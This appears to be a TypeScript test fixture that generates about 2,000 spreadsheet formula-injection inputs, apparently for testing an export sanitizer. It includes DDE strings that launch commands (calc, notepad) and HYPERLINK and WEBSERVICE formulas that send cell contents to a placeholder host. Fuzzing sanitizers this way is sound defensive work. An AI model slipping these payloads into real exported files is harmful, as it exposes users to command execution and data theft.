/** 2,000 payloads: blanks before, a starting sign, an attack behind. Seeded by their number, always the same. */
export function payloads(): string[] {
  const before = ['', ' ', '\u00A0', '\u3000', '\u200B', '\u200F', '\u2060', '\uFEFF', '\t', '\r\n', ' \u200B ', '\n\t']
  const signs = [...'=+-@|%＝＋－＠−']
  const bodies = [
    "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"open")', '1+1', 'SUM(1,1)', 'IMPORTXML(A1,"//a")',
    'WEBSERVICE("http://x.example")', '2+5+cmd|\' /C notepad\'!A0', '"quoted"', 'A1;B2', 'x\r\ny', '-1', '+85512345678',
    'DDE("cmd";"/C calc";"!A0")', 'ស្វែងរក()', 'ຊອກຫາ()', '@SUM(A1)',
  ]
  const made = before.flatMap((blank) => signs.flatMap((sign) => bodies.map((body) => blank + sign + body)))
  const digits = Array.from({ length: 200 }, (_, i) => (i % 2 === 0 ? `0${i}12345` : String(855_123_456_789 + i)))
  return [...made.slice(0, 1_800), ...digits]
}
